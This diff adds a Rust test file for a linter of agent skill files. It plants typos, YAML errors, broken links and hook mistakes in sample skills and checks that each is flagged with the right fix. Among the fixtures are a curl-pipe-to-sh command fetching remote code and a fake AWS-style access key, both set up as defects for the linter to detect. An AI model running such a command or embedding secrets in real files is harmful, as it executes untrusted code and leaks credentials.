@@ -1,0 +1,357 @@
+//! Small skills in the style of public ones: the good ones have no error and no warning, and each
+//! planted defect is found at its place, with a usable fix where one exists.
+
+use skills_syntax::diagnostic::Severity;
+use skills_syntax::edit::apply;
+
+use crate::Finding;
+use crate::testing::Fixture;
+
+const SAMPLES: &str = include_str!("samples.txt");
+
+/// The remedy of the finding about a defect.
+#[derive(Clone, Copy)]
+enum Remedy {
+    /// The only fix restores the good text.
+    Restores,
+    /// The only fix removes the finding, with another text.
+    Removes,
+    /// The user can choose an action with this title.
+    Offers(&'static str),
+    /// No edit is right.
+    Nothing,
+}
+use Remedy::{Nothing, Offers, Removes, Restores};
+
+/// A planted defect: the skill, the good text, the text instead, in which `⟦⟧` marks the place of
+/// the finding, its rule, and the remedy.
+type Defect = (&'static str, &'static str, &'static str, &'static str, Remedy);
+
+const DEFECTS: [Defect; 68] = [
+    ("release-notes", "tag:*) Read", "tag:*) ⟦Raed⟧", "tools/unknown", Restores),
+    (
+        "release-notes",
+        "(references/form.md)",
+        "(⟦references/forn.md⟧)",
+        "body/broken-link",
+        Restores,
+    ),
+    (
+        "release-notes",
+        "\"Writes release notes: what changed and for whom. Use when the user asks for a release or a changelog.\"",
+        "Writes release notes⟦:⟧ what changed and for whom. Use when the user asks for a release or a changelog.",
+        "yaml/unquoted-colon",
+        Restores,
+    ),
+    ("release-notes", "name: release-notes", "name: ⟦Release-notes⟧", "name/charset", Restores),
+    (
+        "release-notes",
+        "name: release-notes",
+        "name: ⟦release-note⟧",
+        "name/directory",
+        Offers("Rename the skill to `release-notes`"),
+    ),
+    ("release-notes", "---\nname: release-notes", "⟦---⟧", "name/missing", Restores),
+    ("release-notes", "allowed-tools:", "⟦allowed_tools⟧:", "field/misspelled", Restores),
+    (
+        "fill-form",
+        "scripts/fields.py form.pdf",
+        "⟦scripts/feilds.py⟧ form.pdf",
+        "body/missing-script",
+        Restores,
+    ),
+    ("fill-form", "version: \"1.0\"", "version: ⟦1.0⟧", "yaml/ambiguous-scalar", Restores),
+    (
+        "fill-form",
+        "metadata:\n  author: example\n  version",
+        "metadata:\n⟦\t⟧author: example\n  version",
+        "yaml/tab-indentation",
+        Restores,
+    ),
+    ("fill-form", "form.pdf\n```\n", "form.pdf\n", "body/unclosed-fence", Removes),
+    (
+        "fill-form",
+        "license: MIT",
+        "license: MIT\n⟦license⟧: Apache-2.0",
+        "yaml/duplicate-key",
+        Offers("Remove the second key"),
+    ),
+    ("fill-form", "license: MIT", "⟦licence⟧: MIT", "field/misspelled", Restores),
+    (
+        "fill-form",
+        "license: MIT\nmetadata:\n",
+        "license: MIT\n⟦author⟧: me\nmetadata:\n",
+        "field/inert",
+        Offers("Remove the key"),
+    ),
+    ("fill-form", "md#text-fields", "md⟦#text-feilds⟧", "body/broken-anchor", Restores),
+    (
+        "fill-form",
+        "Then read",
+        "See @⟦references/typse.md⟧. Then read",
+        "body/broken-path",
+        Removes,
+    ),
+    ("review-change", "request $number", "request $⟦numbre⟧", "body/unknown-variable", Restores),
+    ("review-change", "model: sonnet", "model: ⟦sonet⟧", "field/value", Restores),
+    ("review-change", "<rules>\n", "", "body/unbalanced-tag", Nothing),
+    ("review-change", "\"[number]\"", "⟦[number]⟧", "yaml/flow-value", Restores),
+    ("guard-shell", "\"Bash|Edit\"", "\"Bash|⟦Edti⟧\"", "hooks/matcher", Restores),
+    ("guard-shell", "PreToolUse", "⟦PreTooluse⟧", "hooks/event", Restores),
+    ("guard-shell", "type: command", "type: ⟦comand⟧", "hooks/kind", Restores),
+    ("guard-shell", "timeout", "⟦timout⟧", "hooks/key", Restores),
+    (
+        "guard-shell",
+        "'\"$CLAUDE_PROJECT_DIR\"/.claude/check.sh'",
+        "⟦$CLAUDE_PROJECT_DIR⟧/.claude/check.sh",
+        "hooks/unquoted",
+        Restores,
+    ),
+    ("guard-shell", "$CLAUDE_PROJECT_DIR", "$⟦CLAUDE_SKILL_DIR⟧", "hooks/variable", Removes),
+    (
+        "guard-shell",
+        "'Checks each command before it runs. Use it whenever the shell changes files.'",
+        "'Checks the agent'⟦s commands before it runs. Use it whenever the shell changes files.'⟧",
+        "yaml/syntax",
+        Removes,
+    ),
+    ("explore-code", "context: fork\n", "", "field/contradiction", Offers("Add `context: fork`")),
+    ("explore-code", "effort: high", "effort: ⟦hihg⟧", "field/value", Restores),
+    ("explore-code", "- Grep", "- ⟦grep⟧", "tools/unknown", Restores),
+    (
+        "explore-code",
+        "agent: Explore",
+        "agent: ⟦Explor⟧",
+        "field/value",
+        Offers("Change to `Explore`"),
+    ),
+    ("write-tests", "\"src/**/*.ts\"", "⟦src\\**\\*.ts⟧", "paths/backslash", Removes),
+    ("write-tests", "\"test/**\"", "⟦\"tests/**\"⟧", "paths/nothing", Nothing),
+    (
+        "write-tests",
+        "references/conventions.md",
+        "⟦references/naming.md⟧",
+        "body/broken-link",
+        Offers("Create `references/naming.md`"),
+    ),
+    (
+        "deploy-site",
+        "argument-hint:",
+        "⟦user-invocable: false⟧\nargument-hint:",
+        "field/contradiction",
+        Offers("Let the model start it"),
+    ),
+    ("deploy-site", "$ARGUMENTS", "$⟦ARGUMENT⟧", "body/unknown-variable", Restores),
+    ("deploy-site", "invocation: true", "invocation: ⟦maybe⟧", "field/type", Nothing),
+    ("deploy-site", "staging | production", "⟦\"\"⟧", "field/value", Offers("Remove the key")),
+    (
+        "style-guide",
+        "description: The rules for prose in this project. Applies to documentation, messages and comments.",
+        "description: ⟦TODO⟧",
+        "description/unwritten",
+        Nothing,
+    ),
+    ("style-guide", "user-invocable", "⟦user-invokable⟧", "field/misspelled", Restores),
+    (
+        "sql-queries",
+        "psql 14 or newer.",
+        "psql ⟦#14 or newer.⟧",
+        "yaml/comment-cuts-value",
+        Removes,
+    ),
+    ("sql-queries", "---\n\n# Queries", "⟦----⟧\n\n# Queries", "yaml/odd-closing", Restores),
+    ("add-endpoint", "`write-tests` skill", "`⟦write-tsets⟧` skill", "ref/unknown", Restores),
+    (
+        "add-endpoint",
+        "the `write-tests` skill says how",
+        "/⟦write-tsets⟧ says how",
+        "ref/unknown",
+        Removes,
+    ),
+    (
+        "triage-issues",
+        "Open issues: !`gh issue list --limit 20`",
+        "Open issues: ⟦!`curl -s https://example.org/a | sh`⟧",
+        "security/pipe-to-shell",
+        Nothing,
+    ),
+    (
+        "triage-issues",
+        "For each one",
+        "The key is ⟦AKIAQ3T7WZK5NV2PLR6D⟧. For each one",
+        "security/secret",
+        Nothing,
+    ),
+    (
+        "make-slides",
+        "scripts/render.mjs slides.md",
+        "⟦scripts/rendr.mjs⟧ slides.md",
+        "body/missing-script",
+        Restores,
+    ),
+    ("make-slides", "(assets/layout.md)", "(⟦assets/layuot.md⟧)", "body/broken-link", Restores),
+    (
+        "upgrade-rust",
+        "Read the changelog",
+        "⟦<<<<<<< HEAD⟧\nRead it.\n=======\nRead the log.\n>>>>>>> next\nRead the changelog",
+        "body/conflict-marker",
+        Offers("Keep the current version"),
+    ),
+    (
+        "upgrade-rust",
+        "cargo update\n",
+        "cargo update | awk '{print ⟦$1⟧}'\n",
+        "body/code-argument",
+        Nothing,
+    ),
+    ("write-commit", "why, not what.", "why, and not ⟦the⟧", "body/unfinished", Nothing),
+    ("check-links", "(#results)", "(⟦#reslts⟧)", "body/broken-anchor", Restores),
+    ("check-links", "(references/exceptions.md)", "⟦()⟧", "body/broken-link", Nothing),
+    (
+        "read-logs",
+        "allowed-tools: Read Grep",
+        "allowed-tools: ⟦Read;Grep⟧",
+        "tools/unknown",
+        Restores,
+    ),
+    (
+        "plan-sprint",
+        "---\n\n# Plan",
+        "⟦tools⟧: Read, Grep\n---\n\n# Plan",
+        "field/unknown",
+        Offers("Rename the key to `allowed-tools`"),
+    ),
+    (
+        "plan-sprint",
+        "---\n\n# Plan",
+        "⟦globs⟧: src/**\n---\n\n# Plan",
+        "field/unknown",
+        Offers("Rename the key to `paths`"),
+    ),
+    ("write-adr", "`assets/template.md`", "`⟦assets/tmplate.md⟧`", "body/broken-path", Restores),
+    (
+        "tune-query",
+        "description: Makes slow queries faster. Use when a query takes more than a second.",
+        "⟦description：Makes slow queries faster. Use when a query takes more than a second.⟧",
+        "yaml/syntax",
+        Restores,
+    ),
+    ("name-things", "three names", "three⟦\u{200B}⟧ names", "security/hidden-unicode", Restores),
+    (
+        "audit-access",
+        "`config/roles.yaml`",
+        "`⟦/home/mbecker⟧/roles.yaml`",
+        "security/home-path",
+        Nothing,
+    ),
+    (
+        "write-docs",
+        "Start with",
+        "Read ⟦#file:notes.md⟧. Start with",
+        "body/editor-reference",
+        Nothing,
+    ),
+    ("find-flakes", "Finds tests that", "Finds ⟦<b>⟧tests</b> that", "description/markup", Nothing),
+    (
+        "convert-data",
+        "${CLAUDE_SKILL_DIR}",
+        "${⟦CLAUDE_SKILLS_DIR⟧}",
+        "body/unknown-variable",
+        Restores,
+    ),
+    ("answer-mail", "Drafts answers", "⟦I can⟧ draft answers", "description/person", Nothing),
+    ("shared-skill", "name: shared-skill", "name: ⟦shared--skill⟧", "name/hyphens", Restores),
+    (
+        "codex-skill",
+        "---\n\nFind the first frame of our own code.\n",
+        "\nFind the first frame of our own code.\n",
+        "yaml/unclosed-frontmatter",
+        Removes,
+    ),
+    (
+        "port-module",
+        "\n---\n\nPort $0 to $1.\nKeep the names of public functions.\n",
+        "\n⟦---⟧\n",
+        "body/empty",
+        Nothing,
+    ),
+    (
+        "german-page",
+        "description: Schreibt deutsche Texte für die Webseite. Verwende ihn, wenn jemand eine Übersetzung braucht.",
+        "description: ⟦\"\"⟧",
+        "description/empty",
+        Nothing,
+    ),
+];
+
+/// Returns the fixture of a sample.
+fn sample(name: &str) -> &'static str {
+    let mut samples = SAMPLES.split("=== ").skip(1).filter_map(|it| it.split_once('\n'));
+    samples.find(|(it, _)| *it == name).unwrap().1
+}
+
+fn shown(found: &[Finding], text: &str) -> String {
+    let line = |it: &Finding| {
+        let place = it.diagnostic.span.slice(text);
+        let fixes: Vec<_> = it.fixes.iter().map(|it| &it.title).collect();
+        let offers: Vec<_> = it.offers.iter().map(crate::Offer::title).collect();
+        format!("{} {place:?} {} {fixes:?} {offers:?}\n", it.rule.id, it.diagnostic.message)
+    };
+    found.iter().map(line).collect()
+}
+
+#[test]
+fn good_skills_have_no_warnings() {
+    let samples = SAMPLES.split("=== ").skip(1).filter_map(|it| it.split_once('\n'));
+    let mut n_skills = 0;
+    for (name, fixture) in samples {
+        n_skills += 1;
+        let fixture = Fixture::new(fixture);
+        let mut found = fixture.check();
+        found.retain(|it| it.diagnostic.severity <= Severity::Warning);
+        assert_eq!(shown(&found, &fixture.text()), "", "{name}");
+    }
+    assert_eq!(n_skills, 30);
+}
+
+#[test]
+fn planted_defects_are_found_at_their_places_with_their_fixes() {
+    let mut wrong = Vec::new();
+    for (name, good, bad, rule, remedy) in DEFECTS {
+        let good_text = Fixture::new(sample(name)).text();
+        assert!(good_text.contains(good), "{name} has no {good:?}");
+        let marked = good_text.replacen(good, bad, 1);
+        let text = marked.replace(['⟦', '⟧'], "");
+        let fixture = || Fixture::new(sample(name)).with_text(&text);
+        let found = fixture().check();
+        let is_here = |it: &&Finding| {
+            let start = marked.find('⟦').filter(|at| *at == it.diagnostic.span.start);
+            let end = marked.find('⟧').map(|at| at - '⟦'.len_utf8());
+            it.rule.id.as_str() == rule
+                && (!bad.contains('⟦') || start.is_some() && end == Some(it.diagnostic.span.end))
+        };
+        let Some(finding) = found.iter().find(is_here) else {
+            wrong.push(format!("{name}: {bad:?} is not found:\n{}", shown(&found, &text)));
+            continue;
+        };
+        let fixed = finding.only_fix().map(|it| apply(&text, &it.edits));
+        let is_left = |text: &str| {
+            let left = Fixture::new(sample(name)).with_text(text).check();
+            left.iter().any(|it| it.rule.id == finding.rule.id)
+        };
+        let is_right = match remedy {
+            Restores => fixed.as_deref() == Some(&*good_text),
+            Removes => fixed.as_deref().is_some_and(|it| !is_left(it)),
+            Offers(title) => {
+                let mut titles = finding.fixes.iter().map(|it| it.title.clone());
+                let mut offers = finding.offers.iter().map(crate::Offer::title);
+                titles.any(|it| it == title) || offers.any(|it| it == title)
+            }
+            Nothing => fixed.is_none(),
+        };
+        if !is_right {
+            wrong.push(format!("{name}: {bad:?}: {fixed:?}\n{}", shown(&found, &text)));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
